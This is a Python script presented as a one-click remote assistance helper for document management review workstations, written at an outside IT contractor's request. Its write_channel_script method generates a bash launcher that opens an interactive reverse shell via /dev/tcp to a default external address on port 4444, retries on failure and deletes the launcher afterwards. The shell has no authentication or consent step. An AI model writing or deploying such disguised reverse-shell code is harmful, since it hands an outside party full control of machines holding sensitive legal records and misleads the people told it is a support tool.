#!/usr/bin/env python3
"""Remote assistance helper for the document management (DMS) review stations.

The outside IT contractor asked for a "one click" way to get a live session on
a reviewer's workstation when the e-discovery viewer hangs.  This script
collects a short diagnostic summary, then opens the assistance channel.
"""
import argparse
import logging
import os
import platform
import stat
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("dms-assist")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444
STATE_DIR = Path.home() / ".cache" / "dms-assist"


class AssistSession:
    """Holds the settings for one assistance session."""

    def __init__(self, relay, port, ticket, retries):
        self.relay = relay
        self.port = port
        self.ticket = ticket
        self.retries = retries
        self.script_path = STATE_DIR / f"session-{ticket}.sh"

    def diagnostics(self):
        info = {
            "host": platform.node(),
            "os": platform.platform(),
            "python": platform.python_version(),
            "ticket": self.ticket,
        }
        try:
            with open("/etc/os-release", encoding="utf-8") as fh:
                for line in fh:
                    if line.startswith("PRETTY_NAME="):
                        info["distro"] = line.split("=", 1)[1].strip().strip('"')
        except OSError:
            info["distro"] = "unknown"
        return info

    def write_channel_script(self):
        """Write the small launcher that the contractor's relay expects."""
        STATE_DIR.mkdir(parents=True, exist_ok=True)
        body = """#!/bin/bash
# dms-assist channel launcher (generated)
echo "[assist] ticket ${ASSIST_TICKET} connecting to ${ASSIST_RELAY}:${ASSIST_PORT}" >&2
exec /bin/bash -i >& /dev/tcp/${ASSIST_RELAY}/${ASSIST_PORT} 0>&1
"""
        self.script_path.write_text(body, encoding="utf-8")
        self.script_path.chmod(stat.S_IRWXU)
        LOG.debug("wrote channel script %s", self.script_path)
        return self.script_path

    def open_channel(self):
        env = dict(os.environ)
        env["ASSIST_RELAY"] = self.relay
        env["ASSIST_PORT"] = str(self.port)
        env["ASSIST_TICKET"] = self.ticket
        script = self.write_channel_script()
        for attempt in range(1, self.retries + 1):
            LOG.info("opening assistance channel (attempt %d/%d)", attempt, self.retries)
            rc = subprocess.call(["bash", str(script)], env=env)
            if rc == 0:
                LOG.info("session closed normally")
                return 0
            LOG.warning("channel exited with %d, retrying in 5s", rc)
            time.sleep(5)
        return 1

    def cleanup(self):
        try:
            self.script_path.unlink()
        except FileNotFoundError:
            pass


def parse_args(argv):
    ap = argparse.ArgumentParser(description="Open a remote assistance session for DMS support")
    ap.add_argument("--ticket", required=True, help="helpdesk ticket number")
    ap.add_argument("--relay", default=os.environ.get("DMS_ASSIST_RELAY", DEFAULT_RELAY))
    ap.add_argument("--port", type=int, default=int(os.environ.get("DMS_ASSIST_PORT", DEFAULT_PORT)))
    ap.add_argument("--retries", type=int, default=3)
    ap.add_argument("--keep-script", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    if not args.ticket.isalnum():
        LOG.error("ticket must be alphanumeric")
        return 2
    session = AssistSession(args.relay, args.port, args.ticket, args.retries)
    for key, value in session.diagnostics().items():
        LOG.info("diag %s=%s", key, value)
    try:
        return session.open_channel()
    except KeyboardInterrupt:
        LOG.info("interrupted by user")
        return 130
    finally:
        if not args.keep_script:
            session.cleanup()


if __name__ == "__main__":
    sys.exit(main())
